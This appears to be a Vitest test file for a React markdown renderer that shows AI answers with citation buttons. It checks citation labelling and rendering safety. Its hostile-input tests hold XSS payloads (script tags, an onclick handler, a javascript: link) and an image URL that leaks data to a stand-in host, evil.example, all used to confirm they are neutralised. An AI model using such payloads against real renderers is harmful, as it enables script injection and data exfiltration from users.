import { MantineProvider } from '@mantine/core';
import { renderToStaticMarkup } from 'react-dom/server';
import { describe, expect, test } from 'vitest';
import { citationOf } from '../../test/events.ts';
import type { Citation } from '../api/types.ts';
import { AnswerMarkdown } from './answer-markdown.tsx';

function rendered(text: string, citations: Citation[] = [], unfinished = false): string {
  return renderToStaticMarkup(
    <MantineProvider withCssVariables={false} withGlobalClasses={false}>
      <AnswerMarkdown text={text} citations={citations} unfinished={unfinished} />
    </MantineProvider>,
  );
}

const labels = (html: string) => [...html.matchAll(/aria-label="(Source [^"]*)"/g)].map(([, label]) => label);

describe('the markers of an answer', () => {
  test('become buttons that name their source', () => {
    const html = rendered('It is tall [1].', [citationOf({ answer_span: { start: 0, end: 10 } })]);
    expect(labels(html)).toEqual(['Source 1: Lighthouse']);
    expect(html).not.toContain('[1]');
  });

  test('with one number and several quotes each point to the quote of their own sentence', () => {
    const text = 'Tall [1]. White [1].';
    const html = rendered(text, [
      citationOf({ title: 'Second', answer_span: { start: 10, end: 15 } }),
      citationOf({ title: 'First', answer_span: { start: 0, end: 4 } }),
    ]);
    expect(labels(html)).toEqual(['Source 1: First', 'Source 1: Second']);
  });

  test('say that their source does not confirm the sentence', () => {
    const html = rendered('It is 90 m tall [1].', [citationOf({ supported: false })]);
    expect(labels(html)).toEqual(['Source 1: Lighthouse (not confirmed by this source)']);
  });

  test('that nothing backs stay text once the answer is finished, and wait before that', () => {
    expect(rendered('It is tall [7].')).toContain('It is tall [7].');
    expect(rendered('It is tall [7].', [], true)).not.toContain('[7]');
  });

  test('cannot be turned into links by a definition in the answer', () => {
    const html = rendered('It is tall [1].\n\n[1]: https://evil.example', [citationOf()]);
    expect(labels(html)).toEqual(['Source 1: Lighthouse']);
    expect(html).not.toContain('evil.example');
  });

  test('are found in lists, emphasis and table cells, and left alone in code', () => {
    const text = '- **tall [1]**\n\n| a |\n|---|\n| high [1] |\n\n`x[1]`';
    const html = rendered(text, [citationOf()]);
    expect(labels(html)).toHaveLength(2);
    expect(html).toContain('x[1]');
  });
});

describe('an answer that tries to do harm', () => {
  test('shows its HTML as text', () => {
    const html = rendered('<script>alert(1)</script> <b onclick="x()">bold</b>');
    expect(html).not.toMatch(/<script|<b /);
    expect(html).toContain('&lt;script&gt;');
  });

  test('fetches no picture', () => {
    const html = rendered('![secret](https://evil.example/?leak=1)');
    expect(html).not.toContain('<img');
    expect(html).toContain('>secret</a>');
  });

  test('has no link that runs a script', () => {
    expect(rendered('[click](javascript:alert(1))')).not.toContain('javascript:');
  });

  test('opens links without giving away the page', () => {
    expect(rendered('[site](https://example.com)')).toContain('rel="noopener noreferrer nofollow"');
  });
});
